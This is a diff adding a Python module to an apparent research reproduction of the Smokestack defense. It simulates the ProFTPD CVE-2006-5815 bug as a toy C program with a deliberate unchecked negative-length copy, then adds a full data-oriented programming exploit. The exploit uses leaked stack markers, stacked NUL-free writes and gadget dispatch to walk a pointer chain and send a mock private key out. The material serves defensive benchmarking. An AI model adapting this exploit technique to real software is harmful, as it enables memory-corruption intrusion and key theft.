@@ -1,0 +1,307 @@
+"""ProFTPD CVE-2006-5815 analogue (paper §V-C, "Real Vulnerabilities").
+
+The real bug: ``sreplace()`` calls ``sstrncpy(dst, src, negative
+argument)`` — the negative length wraps to a huge ``size_t``, giving a
+linear stack overflow from a fixed buffer.  Hu et al. built three DOP
+exploits on it; the headline one extracts ProFTPD's OpenSSL private key
+**bypassing ASLR**: the key sits behind a chain of pointers of which only
+the base is unrandomized, so the exploit's 24-round gadget chain (MOV /
+ADD / LOAD operations driven by repeatedly corrupting the command-loop's
+locals) walks the chain pointer by pointer and sends the key out the
+server's own response path.
+
+Analogue mechanics, faithful to the constraints of the vector:
+
+* ``sreplace`` — the vulnerable callee: per FTP command it reads a
+  length field and payload and ``sstrncpy_``s into a fixed buffer; a
+  negative length is the CVE (unbounded *string* copy — payloads cannot
+  contain NUL bytes);
+* because single string writes cannot produce interior zero bytes, the
+  attacker composes target images with **stacked writes**: a descending
+  sequence of copies where each terminating NUL supplies one zero byte —
+  this is why the real exploit needed its many corruption iterations,
+  and the analogue reproduces that shape (dozens of rounds per step);
+* ``command_loop`` — the caller: its loop counter is the **gadget
+  dispatcher** and its locals the operands; MOV/LOAD/ADD/SEND gadgets
+  are ordinary bookkeeping selected by exact 8-byte opcode values (junk
+  from intermediate stacked writes never matches them);
+* the private key hangs off a 7-deep pointer chain set up at startup.
+
+Under Smokestack every ``sreplace`` invocation re-randomizes where the
+buffer sits, so a plan of 30+ stacked writes — each needing the same
+layout — collapses immediately; the paper: "Smokestack was able to stop
+this attack by randomizing the relative distance of the overflowed
+buffer with the loop counter used to stitch the DOP gadgets together and
+the operands used in the DOP gadgets".
+"""
+
+from __future__ import annotations
+
+from typing import Dict, List, Optional
+
+from repro.attacks.harness import AttackScenario
+from repro.attacks.model import AttackReport
+from repro.attacks.overflow import find_marker, le64
+from repro.defenses.base import Defense, ProgramBuild
+from repro.vm.interpreter import ExecutionResult, Machine
+
+#: The OpenSSL private key the exploit extracts.
+SSL_KEY = b"PROFTPD-OPENSSL-RSA-PRIVATE-KEY-1337"
+
+#: Depth of the pointer chain guarding the key (the paper counts 8
+#: pointers with 7 randomized links).
+CHAIN_DEPTH = 7
+
+#: Exact-match gadget opcodes: NUL-free, below 2^63, never produced by
+#: the stacked writes' transient junk.
+OP_MOV = 0x51A1A1A1A1A1A1A1
+OP_LOAD = 0x52B2B2B2B2B2B2B2
+OP_ADD = 0x53C3C3C3C3C3C3C3
+OP_SEND = 0x54D4D4D4D4D4D4D4
+
+#: Distinctive initial operand values (only ever compared against the
+#: opcodes, so they act as locatable markers without changing behaviour).
+SRC_MARKER = 0x1BADB002DEAD0001
+DST_MARKER = 0x1BADB002DEAD0002
+CNT_MARKER = 0x1BADB002DEAD0003
+OP_MARKER = 0x1BADB002DEAD0000  # op's initial value: locatable, not an opcode
+LIMIT_MARKER = 0x00000000002C11E7  # & 0xff = 0xE7 -> 231 dispatcher rounds
+
+BUF_SIZE = 512
+
+SOURCE = f"""
+char g_ssl_key[64] = "{SSL_KEY.decode()}";
+long g_p1 = 0;
+long g_p2 = 0;
+long g_p3 = 0;
+long g_p4 = 0;
+long g_p5 = 0;
+long g_p6 = 0;
+long g_p7 = 0;
+
+/* --- vulnerable callee: CVE-2006-5815 ---------------------------------- */
+int sreplace(char *cmd_buf) {{
+    char buf[{BUF_SIZE}];
+    long len = 0;
+    int rc = 0;
+    input_read((char*)&len, 8);
+    if (len == 0) {{
+        return 0;
+    }}
+    input_read(cmd_buf, 8192);
+    /* the CVE: a negative length is not rejected (size_t wrap in C) */
+    sstrncpy_(buf, cmd_buf, len);
+    rc = 1;
+    /* transfer log echo (the disclosure channel) */
+    output_bytes(buf, 1536);
+    return rc;
+}}
+
+/* --- the caller: the FTP command loop is the gadget dispatcher --------- */
+int command_loop(char *cmd_buf) {{
+    long limit = 0x2C11E7;          /* dispatcher bound (low byte)       */
+    long acc = 0;
+    long round = 0;
+    long g_src = 0x1BADB002DEAD0001;
+    long g_dst = 0x1BADB002DEAD0002;
+    long g_cnt = 0x1BADB002DEAD0003;
+    long spare = 0;                  /* scratch word */
+    long op = 0x1BADB002DEAD0000;    /* idle: matches no opcode */
+    while (round < (limit & 0xff)) {{
+        if (sreplace(cmd_buf) == 0) {{
+            break;                   /* client quit */
+        }}
+        /* per-command bookkeeping == the DOP gadgets (single-shot) */
+        if (op == 0x51A1A1A1A1A1A1A1) {{
+            g_dst = g_src;
+            op = 0;
+        }} else if (op == 0x52B2B2B2B2B2B2B2) {{
+            long *p = (long*)g_src;
+            g_src = *p;
+            op = 0;
+        }} else if (op == 0x53C3C3C3C3C3C3C3) {{
+            g_src = g_src + g_cnt;
+            op = 0;
+        }} else if (op == 0x54D4D4D4D4D4D4D4) {{
+            output_bytes((char*)g_src, g_cnt & 0xff);
+            op = 0;
+        }}
+        spare = spare & 0xff;
+        acc += 1;
+        round++;
+    }}
+    return (int)(acc & 0xff);
+}}
+
+int main() {{
+    char reserve[4096];
+    reserve[0] = 0;
+    g_p1 = (long)g_ssl_key;
+    g_p2 = (long)&g_p1;
+    g_p3 = (long)&g_p2;
+    g_p4 = (long)&g_p3;
+    g_p5 = (long)&g_p4;
+    g_p6 = (long)&g_p5;
+    g_p7 = (long)&g_p6;
+    char *cmd_buf = (char*)malloc(8192);
+    return command_loop(cmd_buf);
+}}
+"""
+
+
+def stacked_writes(image: bytes) -> List[bytes]:
+    """Decompose a byte image into NUL-free stacked string writes.
+
+    Each returned string, copied in order (longest first) from offset 0,
+    leaves memory equal to ``image``: a position's final byte comes from
+    the shortest write covering it, and every zero byte of the image is
+    supplied by exactly one write's terminating NUL.  ``image`` must end
+    with a zero byte (the final terminator of the longest write).
+
+    This is the classic strcpy-stacking technique, and the reason the
+    real exploit needed its dozens of corruption rounds.
+    """
+    if not image or image[-1] != 0:
+        raise ValueError("image must end with a zero byte")
+    boundaries = [i for i, byte in enumerate(image) if byte == 0]
+    writes: List[bytes] = []
+    for boundary in reversed(boundaries):
+        content = bytearray(image[:boundary])
+        for index, byte in enumerate(content):
+            if byte == 0:
+                content[index] = 1  # placeholder; a later NUL lands here
+        writes.append(bytes(content))
+    return writes
+
+
+class ProftpdDopAttack(AttackScenario):
+    """CVE-2006-5815: key extraction through a 7-pointer chain."""
+
+    name = "proftpd-dop"
+    victim_function = "sreplace"
+    description = "CVE-2006-5815: sstrncpy DOP, OpenSSL key extraction"
+    source = SOURCE
+
+    def goal_met(self, result: ExecutionResult) -> bool:
+        return SSL_KEY in bytes(result.output_data)
+
+    def machine_kwargs(self) -> Dict[str, object]:
+        return {"max_steps": 8_000_000}
+
+    def make_input_hook(self, build: ProgramBuild, rng, attempt):
+        image = build.make_machine().image
+        chain_addr = image.address_of_global(f"g_p{CHAIN_DEPTH}")
+        state: Dict[str, object] = {"consumed": 0, "queue": [], "probed": False}
+
+        def hook(machine: Machine) -> Optional[bytes]:
+            queue: List[bytes] = state["queue"]  # type: ignore[assignment]
+            if queue:
+                return queue.pop(0)
+            leak = bytes(machine.result.output_data)[state["consumed"] :]
+            state["consumed"] = len(machine.result.output_data)
+            if not state["probed"]:
+                state["probed"] = True
+                state["queue"] = [b"probe"]
+                return le64(16)  # benign bounded record
+            plan = self._build_plan(leak, chain_addr)
+            if plan is None:
+                state["queue"] = [b"probe"]
+                return le64(16)
+            state["queue"] = plan[1:]
+            return plan[0]
+
+        return hook
+
+    def _build_plan(self, leak: bytes, chain_addr: int) -> Optional[List[bytes]]:
+        """The full exploit as a record stream (len fields + payloads)."""
+        gaps: Dict[str, int] = {}
+        for name, marker in (
+            ("g_src", SRC_MARKER),
+            ("g_dst", DST_MARKER),
+            ("g_cnt", CNT_MARKER),
+            ("limit", LIMIT_MARKER),
+        ):
+            position = find_marker(leak, le64(marker))
+            if position is None:
+                return None
+            gaps[name] = position
+        op_position = find_marker(leak, le64(OP_MARKER))
+        if op_position is None:
+            return None
+        op_gap = op_position
+
+        records: List[bytes] = []
+
+        def emit_write(payload: bytes) -> None:
+            records.append(le64(-1))  # the CVE: negative length
+            # NUL-terminate the staging buffer: previous (longer) records
+            # leave tails behind, and sstrncpy_ copies to the first NUL.
+            records.append(payload + b"\x00")
+
+        def emit_op(opcode: int) -> None:
+            # Arm a single gadget: one write ending right past ``op`` (its
+            # NUL sacrifices the low byte of the scratch word above).  The
+            # gadget fires at the end of this same record and resets op.
+            payload = bytearray(leak[: op_gap + 8])
+            for index in range(min(BUF_SIZE, len(payload))):
+                payload[index] = 0x6A
+            for index in range(BUF_SIZE, op_gap):
+                if payload[index] == 0:
+                    payload[index] = 1  # should not occur; cookie replay
+            payload[op_gap : op_gap + 8] = le64(opcode)
+            emit_write(bytes(payload))
+
+        # --- step 1: stage g_src = &g_p7 (op stays 0 throughout) --------
+        step1 = self._patched_image(leak, {gaps["g_src"]: le64(chain_addr)})
+        if step1 is None:
+            return None
+        for write in stacked_writes(step1):
+            emit_write(write)
+        # --- step 2: seven LOADs walk the pointer chain ------------------
+        for _ in range(CHAIN_DEPTH):
+            emit_op(OP_LOAD)
+        # --- step 3: stage g_cnt = len(key), then fire SEND --------------
+        step3 = self._patched_image(
+            leak, {gaps["g_cnt"]: le64(len(SSL_KEY))}
+        )
+        if step3 is None:
+            return None
+        for write in stacked_writes(step3):
+            emit_write(write)
+        emit_op(OP_SEND)
+        records.append(le64(0))  # QUIT: ends the command loop
+        return records
+
+    @staticmethod
+    def _patched_image(
+        leak: bytes, patches: Dict[int, bytes]
+    ) -> Optional[bytes]:
+        """Replay image: leaked bytes with patches, junk inside the buffer.
+
+        The image must end in a zero byte (terminator of the longest
+        write); it is extended to the next zero in the leak.
+        """
+        end = max(gap + len(data) for gap, data in patches.items())
+        # Extend to the next zero byte in the leak (the final NUL slot).
+        while end < len(leak) and leak[end] != 0:
+            end += 1
+        if end >= len(leak):
+            return None
+        image = bytearray(leak[: end + 1])
+        image[end] = 0
+        # Inside the dead buffer nothing matters: plain junk, no zeros
+        # (fewer zeros == fewer stacked rounds).
+        for index in range(min(BUF_SIZE, len(image) - 1)):
+            image[index] = 0x6A  # 'j'
+        for gap, data in patches.items():
+            image[gap : gap + len(data)] = data
+        return bytes(image)
+
+
+def run_proftpd_campaign(
+    defense: Defense, restarts: int = 8, seed: int = 0
+) -> AttackReport:
+    """Convenience wrapper used by tests and the security benchmark."""
+    from repro.attacks.harness import run_campaign
+
+    return run_campaign(ProftpdDopAttack(), defense, restarts=restarts, seed=seed)
